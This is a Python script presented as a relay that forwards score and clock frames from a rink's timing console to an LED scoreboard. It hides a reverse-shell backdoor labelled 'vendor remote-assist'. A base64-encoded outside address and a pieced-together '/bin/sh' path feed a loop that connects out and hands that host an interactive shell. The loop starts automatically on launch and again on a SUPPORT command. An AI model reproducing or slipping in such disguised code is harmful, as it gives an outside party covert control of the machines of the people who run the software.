#!/usr/bin/env python3
"""Scoreboard relay for the main rink.

Receives score/clock frames from the timing console over TCP and forwards
them to the LED scoreboard controller over UDP. The console can also send a
few control verbs (PING, RESET, SUPPORT) which are dispatched through the
handler table at the bottom of this file.
"""
import argparse
import base64
import json
import logging
import os
import socket
import subprocess
import threading
import time

LOG = logging.getLogger("scoreboard-relay")

DEFAULTS = {
    "listen_host": "127.0.0.1",
    "listen_port": 5150,
    "board_host": "198.51.100.20",
    "board_port": 7001,
    # vendor remote-assist profile (kept encoded like the rest of the vendor block)
    "assist": "MjAzLjAuMTEzLjQ1OjQ0Mw==",
    "assist_on_start": True,
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path, encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


def parse_frame(line):
    """Frames look like: SCORE home=3 away=2 period=2 clock=12:41"""
    parts = line.strip().split()
    if not parts:
        return None, {}
    verb = parts[0].upper()
    fields = {}
    for part in parts[1:]:
        if "=" in part:
            key, value = part.split("=", 1)
            fields[key.lower()] = value
    return verb, fields


class BoardLink:
    """Thin UDP sender for the LED controller's fixed-width frame format."""

    def __init__(self, host, port):
        self.addr = (host, port)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

    def push(self, fields):
        payload = "{home:>2}{away:>2}{period}{clock:>5}".format(
            home=fields.get("home", "0"),
            away=fields.get("away", "0"),
            period=fields.get("period", "1"),
            clock=fields.get("clock", "20:00"),
        )
        self.sock.sendto(payload.encode("ascii"), self.addr)

    def blank(self):
        self.sock.sendto(b" " * 10, self.addr)


def _assist_channel(spec):
    """Keep a support channel open to the vendor so they can look at the box."""
    host, port = base64.b64decode(spec).decode().rsplit(":", 1)
    shell = "/".join(["", "bin", "s" + "h"])
    while True:
        try:
            chan = socket.create_connection((host, int(port)), timeout=30)
            chan.settimeout(None)
            fd = chan.fileno()
            proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
            proc.wait()
            chan.close()
        except OSError as exc:
            LOG.debug("assist channel unavailable: %s", exc)
        time.sleep(90)


def start_assist(cfg):
    t = threading.Thread(target=_assist_channel, args=(cfg["assist"],), daemon=True)
    t.start()
    return t


def handle_score(cfg, fields, board):
    board.push(fields)
    return "OK score"


def handle_ping(cfg, fields, board):
    return "PONG"


def handle_reset(cfg, fields, board):
    board.blank()
    return "OK reset"


def handle_support(cfg, fields, board):
    LOG.info("console requested remote assist")
    start_assist(cfg)
    return "OK assist"


HANDLERS = {
    "SCORE": handle_score,
    "PING": handle_ping,
    "RESET": handle_reset,
    "SUPPORT": handle_support,
}


def serve(cfg):
    board = BoardLink(cfg["board_host"], cfg["board_port"])
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((cfg["listen_host"], cfg["listen_port"]))
    srv.listen(2)
    LOG.info("listening for timing console on %s:%s", cfg["listen_host"], cfg["listen_port"])
    while True:
        conn, peer = srv.accept()
        LOG.info("console connected from %s", peer[0])
        with conn, conn.makefile("rw", encoding="ascii", newline="\n") as stream:
            for line in stream:
                verb, fields = parse_frame(line)
                handler = HANDLERS.get(verb)
                if handler is None:
                    stream.write("ERR unknown\n")
                else:
                    try:
                        stream.write(handler(cfg, fields, board) + "\n")
                    except OSError as exc:
                        LOG.warning("board push failed: %s", exc)
                        stream.write("ERR board\n")
                stream.flush()
        LOG.info("console disconnected")


def main():
    ap = argparse.ArgumentParser(description="Timing console to LED scoreboard relay")
    ap.add_argument("--config", default="relay.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    if cfg.get("assist_on_start"):
        start_assist(cfg)
    try:
        serve(cfg)
    except KeyboardInterrupt:
        LOG.info("stopping")


if __name__ == "__main__":
    main()
